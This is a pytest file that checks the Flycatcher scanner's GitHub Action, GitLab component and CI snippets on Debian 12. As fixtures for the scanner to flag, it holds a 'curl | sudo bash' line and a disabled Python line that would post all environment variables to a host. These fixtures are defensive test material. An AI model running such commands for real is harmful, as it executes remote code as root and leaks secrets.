"""What CI systems run, run: the GitHub actions, the GitLab component and the snippets of docs/how-to/add-to-ci.md, on a bare Debian 12.

Each installs Flycatcher for real, as a user with sudo, where Debian lets pip install nothing outside of an environment.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import time
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
import yaml

from tests.commands.scan.test_ci_systems import SHELLS, block, component, steps
from tests.delivery.receivers import HttpReceiver
from tests.packages import machine
from tests.packages.actions import ACTIONS, HOME, PROJECT, TEMP, Runner, read_action
from tests.report.test_pr import Comments

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.packages.machine import Machine

LOUD = "curl -fsSL https://tools.example/x | sudo bash\n"
SENDS = 'import os, urllib.request as u; 0 and u.urlopen("http://127.0.0.1:1/", str(dict(os.environ)).encode())'
"""Text that would send secrets away, and does not: high or worse, wherever it stands."""
QUIET = "all:\n\t@python3 -c 'print(1)'\n"
PACKAGES = ("python3", "python3-pip", "python3-venv", "git", "make", "sudo", "nodejs", "libbpf1")
"""What the images of CI systems have, and Flycatcher needs: of Debian's Python, pip and venv are packages of their own."""


@pytest.fixture(scope="module")
def host(bare: Path, checkout: Path, built: Path) -> Iterator[Machine]:
    """Return a machine with the action's own checkout and the wheel, and somebody who may use sudo."""
    made = machine.on_top("ci", bare)
    made.install(*PACKAGES)
    made.add_user("dev")
    shutil.copytree(checkout, made.root / ACTIONS[1:], symlinks=True)
    (wheel,) = built.glob("*.whl")
    shutil.copy(wheel, made.root / HOME[1:])
    made.run("chown", "-R", "dev:dev", HOME)
    yield made
    machine.removed(made.root)


@pytest.fixture
def project(host: Machine) -> Path:
    """Return the folder of a project under version control: one quiet build file, one loud one, committed one after the other."""
    folder = host.root / PROJECT[1:]
    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir()
    (folder / "Makefile").write_text(QUIET)
    host.run("chown", "-R", "dev:dev", PROJECT)
    git(host, "init", "-q")
    commit(host, "The build")
    (folder / "setup.sh").write_text(LOUD)
    commit(host, "A tool")
    return folder


def git(host: Machine, *words: str) -> str:
    """Run git in the project."""
    return host.run(
        "git", "-C", PROJECT, "-c", "user.name=dev", "-c", "user.email=dev@example.org", *words, user="dev"
    ).stdout


def commit(host: Machine, what: str) -> None:
    """Commit everything."""
    git(host, "add", "-A")
    git(host, "commit", "-q", "-m", what)


def wheel(host: Machine) -> str:
    """Return the wheel's path on the machine."""
    (found,) = (host.root / HOME[1:]).glob("*.whl")
    return f"{HOME}/{found.name}"


def shown(number: int) -> dict[str, str]:
    """Return what the page's block of that number gives to the action, as text."""
    items: Any = yaml.safe_load(block("GitHub Actions", number))
    listed = items if isinstance(items, list) else items["steps"]
    (step,) = (each for each in listed if each.get("uses", "").startswith("OWNER/flycatcher"))
    return {name: str(value).lower() if isinstance(value, bool) else str(value) for name, value in step["with"].items()}


@pytest.fixture(autouse=True)
def seconds(request: pytest.FixtureRequest, host: Machine, project: Path) -> Iterator[None]:
    """Print how long a test took, by the clock and of the processors, without what was prepared."""
    begun, used = time.monotonic(), _processors()
    yield
    print(f"{request.node.name}: {time.monotonic() - begun:.1f} s, {_processors() - used:.1f} s of processor time")


def _processors() -> float:
    """Return the processor time of all that this process has started and waited for."""
    spent = os.times()
    return spent.children_user + spent.children_system


def test_debian_lets_pip_install_nothing_outside_of_an_environment(host: Machine) -> None:
    said = host.run("python3", "-m", "pip", "install", wheel(host), user="dev", check=False).stdout
    assert "externally-managed-environment" in said


def test_the_action_scans_a_pull_request_as_the_page_shows(host: Machine, checkout: Path) -> None:
    comments = Comments()
    action = read_action(checkout)
    with HttpReceiver(comments.answer) as forge:
        event = {"github.token": "t0", "github.event.pull_request.number": "7"}
        event["github.event.pull_request.base.sha"] = git(host, "rev-parse", "HEAD~1").strip()
        runner = Runner(host, event)
        action["runs"]["steps"][-1]["env"]["GITHUB_API_URL"] = forge.address
        ended = runner.composite(action, {**shown(0), "fail-on": "low"})
    assert ended.code == 10, ended.said
    assert "file=setup.sh,line=1," in ended.said
    assert "| <code>setup&#46;sh&#58;1</code> | bash stdin | " in runner.read(runner.files["summary"])
    assert "sarif=flycatcher.sarif\n" in runner.read(runner.files["output"])
    assert len(json.loads(runner.read(f"{PROJECT}/flycatcher.sarif"))["runs"][0]["results"]) == 2
    assert "1 new, 0 gone, 1 known." in comments.bodies[0]


def test_the_action_caches_downloads_and_no_program(host: Machine, checkout: Path) -> None:
    action = read_action(checkout)
    (cache,) = (step for step in action["runs"]["steps"] if "uses" in step)
    place = cache["with"]["path"].replace("${{ runner.temp }}", TEMP)
    runner = Runner(host)
    assert runner.composite(action, {"fail-on": ""}).code == 0
    kept = [
        path.relative_to(host.root / place[1:]).parts[0]
        for path in (host.root / place[1:]).rglob("*")
        if path.is_file()
    ]
    assert set(kept) <= {"http", "http-v2", "wheels", "selfcheck"}
    assert runner.paths == [f"{TEMP}/flycatcher/bin"]
    assert not place.startswith(f"{TEMP}/flycatcher/")


def test_the_action_observes_a_command_as_the_page_shows(host: Machine, checkout: Path) -> None:
    runner = Runner(host)
    given = {**shown(1), "version": wheel(host)}
    assert given["run"] == "npm ci && npm test"
    ended = runner.composite(read_action(checkout), {**given, "run": "make && echo built"})
    assert (ended.code, {"1", "built"} <= set(ended.said.splitlines())) == (0, True), ended.said
    assert '"text":"print(1)"' in runner.read(f"{PROJECT}/flycatcher.jsonl")
    assert runner.composite(read_action(checkout), {**given, "version": "", "run": "false | cat"}).code == 1
    code = f"python3 -c '{SENDS}'"
    ended = runner.composite(read_action(checkout), {**given, "version": "", "run": f"{code} || echo refused"})
    assert (ended.code, "refused" in ended.said.splitlines()) == (10, True), ended.said


def test_the_whole_job_is_watched_as_the_page_shows(host: Machine, checkout: Path) -> None:
    watch = read_action(checkout / "watch")
    given = {**shown(2), "options": "--tree=$$", "fail-on": "low"}
    runner = Runner(host)
    begin, end = (
        runner.script(watch, given, name).replace("'INPUT_OPTIONS=--tree=$$'", "INPUT_OPTIONS=--tree=$$")
        for name in ("main", "post")
    )
    job = f"""
    {begin}
    make
    sudo python3 -c 'print(2)'
    set -a; while IFS== read -r name value; do declare "STATE_$name=$value"; done <"$GITHUB_STATE"
    {end}
    """
    ended = runner.shell(job)
    assert ended.code == 0, ended.said
    assert "started: watching with ebpf" in ended.said
    report = host.root / PROJECT[1:] / "watch.jsonl"
    texts = [part["text"] for line in report.read_text().splitlines() for part in json.loads(line).get("snippets", [])]
    assert {"print(1)", "print(2)"} <= set(texts)
    assert report.stat().st_uid == (host.root / HOME[1:]).stat().st_uid
    assert "### Flycatcher watched the job\n\n" in runner.read(runner.files["summary"])
    left = subprocess.run(["pgrep", "-f", f"{TEMP}/flycatcher-watch"], capture_output=True, check=False).stdout
    assert left == b""


def test_gitlab_s_component_scans_a_merge_request(host: Machine) -> None:
    script, variables = component(package=wheel(host), fail_on="low", comment="true")
    comments = Comments()
    with HttpReceiver(comments.answer) as forge:
        around = {
            "GITLAB_CI": "true", "CI": "true", "CI_API_V4_URL": forge.address, "CI_PROJECT_ID": "5", "CI_MERGE_REQUEST_IID": "7",
            "CI_MERGE_REQUEST_DIFF_BASE_SHA": git(host, "rev-parse", "HEAD~1").strip(), "GITLAB_TOKEN": "t0",
        }  # fmt: skip
        places = {"CI_BUILDS_DIR": f"{HOME}/builds", "CI_PROJECT_DIR": PROJECT}
        filled = {name: str(value).replace("$CI_PROJECT_DIR", PROJECT) for name, value in variables.items()}
        done = run(host, script, SHELLS["GitLab"], {**around, **places, **filled})
    assert done.returncode == 10, done.stdout
    assert (host.root / PROJECT[1:] / "flycatcher.sarif").exists()
    assert "1 new, 0 gone, 1 known." in comments.bodies[0]


def run(
    host: Machine, script: str, shell: tuple[str, ...], variables: dict[str, str]
) -> subprocess.CompletedProcess[str]:
    """Run a job's text in the project with the shell that its system takes."""
    host.run("mkdir", "-p", f"{HOME}/builds", user="dev")
    words = [f"{name}={value}" for name, value in variables.items()]
    return host.run("env", f"--chdir={PROJECT}", *words, *shell, "-c", script, user="dev", check=False)


@pytest.mark.parametrize("system", SHELLS)
def test_a_snippet_installs_scans_observes_and_fails_the_job(host: Machine, project: Path, system: str) -> None:
    (project / "setup.sh").unlink()
    places = {
        "FLYCATCHER_PACKAGE": wheel(host), "CI_BUILDS_DIR": f"{HOME}/builds", "WORKSPACE_TMP": f"{HOME}/builds", "BUILDKITE_JOB_ID": "7",
    }  # fmt: skip
    done = run(host, steps(system), SHELLS[system], places)
    assert (done.returncode, "\n1\n" in f"\n{done.stdout}") == (0, True), done.stdout
    assert '"text":"print(1)"' in (project / "flycatcher.jsonl").read_text()
    (project / "Makefile").write_text(f"all:\n\t@python3 -c '{SENDS}'\n")
    done = run(host, steps(system), SHELLS[system], places)
    assert done.returncode == 10, done.stdout
